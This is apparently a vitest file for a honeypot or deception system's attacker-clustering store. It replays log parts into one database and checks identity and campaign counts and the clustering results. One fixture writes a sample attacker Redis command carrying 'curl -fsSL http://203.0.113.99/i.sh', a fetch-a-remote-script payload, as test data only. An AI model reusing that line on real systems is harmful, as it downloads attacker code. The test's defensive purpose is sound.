/** Replays of different parts of a log into one database, and a clusterer that goes on from there. */
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { gunzipSync } from 'node:zlib'
import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest'
import { attackerUuid } from '../../protocols/named_uuid.ts'
import { type Database, openDatabase } from '../../store/database.ts'
import { findings } from '../../store/findings.ts'
import { listCampaigns, listIdentities } from '../../store/read/clusters.ts'
import { testDatabases } from '../services/databases.ts'
import { liveClusterers } from './live_clusterers.ts'
import { CHAIN, replayed, sample } from './replay_chain.ts'

/** Rows that say otherwise than the links do, over whole merges; those of the sample are one deep. */
async function miscounted(open: Database) {
  const [row] = await open.select(
    `select
      (select count(*) from attacker_identities i where observation_count <>
        (select count(*) from attackers a join attacker_identities o on o.uuid = a.identity_id
          where i.uuid in (o.uuid, o.merged_into_uuid))) as identities,
      (select count(*) from campaigns c where identity_count <>
        (select count(*) from attacker_identities i join campaigns o on o.uuid = i.campaign_id
          where c.uuid in (o.uuid, o.merged_into_uuid) and i.merged_into_uuid is null
            and i.observation_count > 0)) as campaigns`,
  )
  return Object.values(row ?? {}).map(Number)
}

/** Which addresses are one identity, and which of those one campaign. */
async function partition(open: Database) {
  const rows = await open.select(
    `select a.ip, coalesce(i.merged_into_uuid, i.uuid) as identity,
      coalesce(c.merged_into_uuid, c.uuid) as campaign
      from attackers a join attacker_identities i on i.uuid = a.identity_id
      join attacker_identities w on w.uuid = coalesce(i.merged_into_uuid, i.uuid)
      left join campaigns c on c.uuid = w.campaign_id order by a.ip`,
  )
  const groups = (column: 'identity' | 'campaign') =>
    [...Map.groupBy(rows, (row) => row[column]).values()].map((group) => group.map(({ ip }) => ip))
  return { identities: groups('identity'), campaigns: groups('campaign') }
}

/** Two that load a file from one place as the first they do: an identity with the name of one. */
const TWINS = ['192.0.2.77', '192.0.2.78']
const fetches = (ip: string) =>
  '<134>1 2026-03-01T00:00:00.000000+00:00 cache-06 redis - command ' +
  `[relay@55555 src="${ip}" cmd="SET" args="curl -fsSL http://203.0.113.99/i.sh"]`

describe.each(testDatabases)('replays into one %s', { timeout: 180_000 }, (_, databases) => {
  let dir: string
  beforeAll(async () => {
    await databases.start()
    dir = mkdtempSync(join(tmpdir(), 'decnet-replays-'))
  }, 60_000)
  afterAll(async () => {
    await databases.stop()
    rmSync(dir, { recursive: true, force: true })
  })

  async function replayInto(open: Database, name: string, lines: readonly string[]) {
    const file = join(dir, `${name}.log`)
    writeFileSync(file, `${lines.join('\n')}\n`)
    await replayed(CHAIN, undefined, { open, captures: [{ file }] })
    expect(await miscounted(open), name).toEqual([0, 0])
  }

  it('leave rows that agree with the links, and a clusterer without state makes one of them', async () => {
    const logged = gunzipSync(readFileSync(sample)).toString().trim().split('\n')
    const lines = [...TWINS.map(fetches), ...logged]
    const parts = {
      odd: lines.filter((_line, at) => at % 3 === 1),
      late: lines.slice(lines.length >> 1),
    }
    const whole = await openDatabase(await databases.fresh())
    await replayInto(whole, 'whole', lines)
    const open = await openDatabase(await databases.fresh())
    try {
      await replayInto(open, 'whole', lines)
      for (const [name, part] of Object.entries(parts)) await replayInto(open, name, part)
      // One by itself has an identity named after it, which finds it taken.
      const [one = ''] = TWINS.toSorted((a, b) => (attackerUuid(a) < attackerUuid(b) ? 1 : -1))
      await replayInto(
        open,
        'one',
        lines.filter((line) => line.includes(`"${one}"`)),
      )
      const [empty] = await open.select(
        `select count(*) as n from attacker_identities where observation_count = 0`,
      )
      expect(Number(empty?.n)).toBeGreaterThan(0)
      const page = { limit: 1000, offset: 0 }
      const shown = await listIdentities(open, page)
      expect(shown.data.filter(({ observation_count: n }) => n === 0)).toEqual([])
      const campaigns = await listCampaigns(open, page)
      expect(campaigns.data.filter(({ identity_count: n }) => n === 0)).toEqual([])
      const { totals } = await findings(open)
      expect(totals).toMatchObject({ identities: shown.total, campaigns: campaigns.total })

      const live = await liveClusterers(open)
      const expected = await partition(whole)
      await live.wake('attacker.scored')
      await live.wake('identity.formed')
      await vi.waitFor(async () => expect(await partition(open)).toEqual(expected), {
        timeout: 30_000,
        interval: 200,
      })
      await live.stop()
      expect(await miscounted(open)).toEqual([0, 0])
    } finally {
      await open.close()
      await whole.close()
    }
  })
})
